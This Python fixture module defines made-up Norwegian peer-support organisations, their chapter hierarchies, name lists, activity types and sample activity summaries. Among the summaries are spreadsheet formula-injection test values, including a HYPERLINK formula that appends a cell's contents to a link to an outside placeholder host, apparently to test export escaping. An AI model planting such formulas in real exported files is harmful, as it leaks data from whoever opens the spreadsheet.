"""
The three invented organisations: their chapters, and the words their activities are made of.

Names of people are drawn from common Norwegian first and last names; nobody real is meant.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True)
class Chapter:
    """One chapter; `parent` is the code of the chapter above, None at the top."""

    id: int
    code: str
    name: str
    level: str
    place: str
    parent: str | None


@dataclass(frozen=True, slots=True)
class Organisation:
    """One organisation; `share` is its part of all activities, in hundredths."""

    id: int
    slug: str
    name: str
    number: str
    share: int
    mentors: int
    chapters: tuple[Chapter, ...]


def _tree(base: int, regions: dict[str, tuple[str, ...]]) -> tuple[Chapter, ...]:
    """Return the chapters in the order national, then each region with its local ones; ids count from `base`."""
    chapters = [Chapter(base, "nasjonalt", "Nasjonalt", "national", "Oslo", None)]
    for region, places in regions.items():
        code = "region-" + _code(region)
        chapters.append(Chapter(base + len(chapters), code, f"Region {region}", "region", places[0], "nasjonalt"))
        for place in places:
            local = f"{place} lokallag"
            chapters.append(Chapter(base + len(chapters), _code(place), local, "local", place, code))
    return tuple(chapters)


def _code(name: str) -> str:
    plain = name.lower().replace("æ", "ae").replace("ø", "o").replace("å", "a")
    return plain.replace(" ", "-")


ORGANISATIONS: Final = (
    Organisation(
        id=1,
        slug="nordlys",
        name="Nordlys likepersonforbund (eksempel)",
        number="999000101",
        share=45,
        mentors=220,
        chapters=_tree(
            100,
            {
                "Nord": ("Tromsø", "Bodø", "Alta", "Vadsø"),
                "Midt": ("Trondheim", "Steinkjer", "Røros"),
                "Vest": ("Bergen", "Førde", "Stavanger", "Ålesund"),
                "Øst": ("Oslo", "Hamar", "Sarpsborg", "Drammen"),
                "Sør": ("Kristiansand", "Arendal"),
            },
        ),
    ),
    Organisation(
        id=2,
        slug="fjord",
        name="Fjordheim hørselsforening (eksempel)",
        number="999000202",
        share=32,
        mentors=150,
        chapters=_tree(
            200,
            {
                "Hardanger": ("Odda", "Øystese", "Eidfjord"),
                "Sogn": ("Sogndal", "Årdal", "Lærdal"),
                "Nordfjord": ("Måløy", "Stryn", "Nordfjordeid"),
            },
        ),
    ),
    Organisation(
        id=3,
        slug="skog",
        name="Skogvang synsforening (eksempel)",
        number="999000303",
        share=23,
        mentors=110,
        chapters=_tree(
            300,
            {
                "Innlandet": ("Elverum", "Lillehammer", "Gjøvik", "Trysil"),
                "Telemark": ("Skien", "Notodden", "Bø"),
                "Trøndelag": ("Levanger", "Namsos"),
            },
        ),
    ),
)
BY_SLUG: Final = {organisation.slug: organisation for organisation in ORGANISATIONS}

FIRST_NAMES: Final = (
    "Åse", "Øystein", "Ærlend", "Kari", "Ola", "Ingrid", "Bjørn", "Sølvi", "Håkon", "Marit", "Pål", "Gøril", "Lars",
    "Ragnhild", "Jørgen", "Synnøve", "Nils", "Anne-Grete", "Torbjørn", "Liv", "Asbjørn", "Randi", "Åge", "Solveig",
    "Knut", "Gro", "Sverre", "Tone", "Magnus", "Aino", "Máret", "Fatima", "Aleksander", "Thi Lan", "Trygve", "Berit",
)  # fmt: skip
LAST_NAMES: Final = (
    "Hansen", "Østby", "Ås", "Bjørnstad", "Næss", "Sæther", "Dahl", "Lødemel", "Haugen", "Ødegård", "Kjær", "Moen",
    "Brønstad", "Vågen", "Aune", "Gjertsen", "Fjeld", "Tveit", "Skår", "Myhre", "Ravnå", "Eira", "Nguyen", "Ahmed",
    "O'Brien", "von der Lippe", "Strøm", "Løkken", "Rød", "Bakke",
)  # fmt: skip

# kind, weight, usual minutes, participants from and to, title
TYPES: Final = (
    ("individual_counselling", 300, (30, 45, 60, 60, 90), (1, 1), "Likepersonssamtale"),
    ("phone_call", 180, (10, 15, 20, 30, 30), (1, 1), "Telefonsamtale"),
    ("group_session", 150, (45, 60, 90, 90, 120), (2, 14), "Samtalegruppe"),
    ("digital_meeting", 120, (30, 45, 60), (2, 20), "Digitalt treff"),
    ("home_visit", 100, (45, 60, 90), (1, 2), "Hjemmebesøk"),
    ("information_event", 80, (60, 90, 120, 180), (8, 80), "Informasjonsmøte"),
    ("course_day", 50, (90, 180, 300, 360), (6, 30), "Kursdag"),
    ("pilot_walk", 15, (60, 90), (3, 12), "Prøvetur"),
    ("cafe_evening", 5, (120,), (5, 25), "Kafékveld"),
)
"""The last two are known to no profile: the fallback of a value map is seen at work."""

COUNTRIES: Final = ("SE", "DK", "FI", "ES")
SUMMARIES: Final = (
    "Snakket om hverdagen, og om å komme i gang igjen.",
    "Fin samtale; ønsker nytt møte om to uker",
    'Deltaker sa: "endelig noen som forstår"',
    "Gjennomgang av hjelpemidler, rettigheter; søknad sendt",
    "Kaffe og kaker 😀🎉 — stor stemning",
    '=HYPERLINK("https://example.org/?x="&A1;"Klikk her")',
    "+47 22 33 44 55 er ringt",
    "-2 deltakere siden sist",
    "@alle: husk påmelding",
    "=1+1",
    "To linjer:\nførste og andre",
    "Tabulator\there",
    "Sámegiella: ságastallan",
    "Veldig lang oppsummering. " * 12,
)
